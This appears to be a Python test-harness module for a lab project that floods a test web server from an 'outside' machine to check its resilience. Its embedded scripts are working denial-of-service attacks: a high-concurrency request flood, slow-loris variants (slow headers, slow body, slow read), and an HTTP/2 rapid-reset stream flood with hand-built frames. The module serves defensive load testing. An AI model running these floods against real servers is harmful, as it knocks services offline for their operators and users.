"""Floods from the machine outside: many requests, slow ones, ones that are taken back at once."""

import json
import subprocess
from collections.abc import Iterator, Sequence
from contextlib import contextmanager

from essaim.lab.machine import Machine

_ASK = r"""
import asyncio, collections, json, re, sys
address, source, host, path, count, talks = sys.argv[1:4] + sys.argv[4:5] + [int(n) for n in sys.argv[5:7]]
request = (f"GET {path} HTTP/1.1\r\nHost: {host}\r\nAccept: text/plain\r\n" + "".join(f"{line}\r\n" for line in sys.argv[7:]) + "\r\n").encode()
statuses, left = collections.Counter(), count
async def talk():
    global left
    reader, writer = None, None
    while left > 0:
        left -= 1
        try:
            if writer is None:
                reader, writer = await asyncio.open_connection(address, 80, local_addr=(source, 0) if source else None)
            writer.write(request)
            head = await reader.readuntil(b"\r\n\r\n")
            length = re.search(rb"(?i)\r\ncontent-length: (\d+)", head)
            if length:
                await reader.readexactly(int(length[1]))
            else:
                await reader.readuntil(b"0\r\n\r\n")
            statuses[head[9:12].decode()] += 1
            if b"connection: close" in head.lower():
                writer.close(); writer = None
        except (OSError, asyncio.IncompleteReadError):
            statuses["none"] += 1; writer = None
async def main():
    await asyncio.gather(*(talk() for _ in range(talks)))
    json.dump(statuses, sys.stdout)
asyncio.run(main())
"""

_SLOW = r"""
import asyncio, resource, sys
resource.setrlimit(resource.RLIMIT_NOFILE, (8192, 8192))
address, host, count, kind = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
HEAD = f"GET / HTTP/1.1\r\nHost: {host}\r\n".encode()
BODY = f"POST /slow.php HTTP/1.1\r\nHost: {host}\r\nContent-Length: 100000\r\n\r\n".encode()
READ = f"GET /large.bin HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
async def talk():
    while True:
        try:
            reader, writer = await asyncio.open_connection(address, 80, limit=2)
            if kind == "read":
                writer.transport.pause_reading()
            writer.write({"header": HEAD, "body": BODY, "read": READ}[kind])
            while not writer.is_closing() and not reader.at_eof():
                await asyncio.sleep(2)
                if kind != "read":
                    writer.write(b"X-Slow: 1\r\n" if kind == "header" else b"x")
                    await writer.drain()
        except OSError:
            pass
        await asyncio.sleep(0.5)
async def main():
    talks = [asyncio.ensure_future(talk()) for _ in range(count)]
    await asyncio.sleep(6)
    print("all", flush=True)
    await asyncio.gather(*talks)
asyncio.run(main())
"""

_TAKEN_BACK = r"""
import socket, ssl, struct, sys, time
address, host, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
context.set_alpn_protocols(["h2"])
def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + body
def text(word):
    return bytes((len(word),)) + word
# method GET, scheme https, path /, authority as a literal (RFC 7541)
block = b"\x82\x87\x84" + b"\x01" + text(host.encode())
until, opened, talks = time.monotonic() + seconds, 0, 0
while time.monotonic() < until:
    talks += 1
    try:
        talk = context.wrap_socket(socket.create_connection((address, 443), 5), server_hostname="no-certificate")
        talk.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
        stream = 1
        while time.monotonic() < until and stream < 1 << 20:
            some = b""
            for _ in range(100):
                some += frame(1, 5, stream, block) + frame(3, 0, stream, struct.pack(">I", 8))
                stream += 2; opened += 1
            talk.sendall(some)
    except OSError:
        continue
print(opened, talks)
"""

_VISITS = r"""
import http.client, json, sys, time
address, host, until, took = sys.argv[1], sys.argv[2], time.monotonic() + float(sys.argv[3]), []
while time.monotonic() < until:
    for path in ("/", "/hello.php"):
        began = time.monotonic()
        talk = http.client.HTTPConnection(address, timeout=20, source_address=(sys.argv[4], 0))
        talk.request("GET", path, headers={"Host": host})
        answer = talk.getresponse(); answer.read(); talk.close()
        took.append([answer.status, time.monotonic() - began])
    time.sleep(0.05)
json.dump(took, sys.stdout)
"""


class Outside:
    """Who asks: the machine outside, from any of its addresses."""

    def __init__(self, outside: Machine, web: Machine) -> None:
        self.machine, self.web = outside, web

    def asks(
        self, host: str, path: str, count: int, *headers: str, at_once: int = 20, source: str = ""
    ) -> dict[str, int]:
        """So many requests over as many lasting connections; how many answers of each status. `source`: from this address."""
        to = self.web.address6 if ":" in source else self.web.address4
        words = [to, source, host, path, str(count), str(at_once), *headers]
        said = self.machine.run(["python3", "-c", _ASK, *words], timeout=120).stdout
        found: dict[str, int] = json.loads(said)
        return found

    @contextmanager
    def is_slow(self, host: str, count: int, kind: str) -> Iterator[None]:
        """So many visitors who dawdle over a `header`, a `body`, or with what they `read`, and come again when they are cut off."""
        with self.machine.popen(["python3", "-c", _SLOW, self.web.address4, host, str(count), kind]) as busy:
            try:
                assert busy.stdout is not None
                assert busy.stdout.readline() == b"all\n"
                yield
            finally:
                busy.kill()

    @contextmanager
    def takes_back(self, host: str, seconds: float) -> Iterator[list[int]]:
        """Streams of HTTP/2 that are opened and reset without a pause; how many, and over how many connections, after the block."""
        words = ["python3", "-c", _TAKEN_BACK, self.web.address4, host, str(seconds)]
        found: list[int] = []
        with self.machine.popen(words) as busy:
            yield found
            found += [int(word) for word in busy.communicate(timeout=seconds + 30)[0].split()]

    def visits(self, host: str, seconds: float, source: str) -> tuple[set[int], float]:
        """Somebody else visits page and PHP for so long: every status seen, and the 95th percentile in seconds."""
        words = ["python3", "-c", _VISITS, self.web.address4, host, str(seconds), source]
        took: Sequence[tuple[int, float]] = json.loads(self.machine.run(words, timeout=seconds + 60).stdout)
        times = sorted(seconds for _, seconds in took)
        return {status for status, _ in took}, times[int(0.95 * len(times))]

    def curl(self, *words: str) -> str:
        """What `curl` says, run outside, over IPv4 if no word says otherwise."""
        argv = self.machine.argv_inside(["curl", "--ipv4", "--silent", "--max-time", "20", *words])
        return subprocess.run(argv, capture_output=True, check=False).stdout.decode(errors="replace")
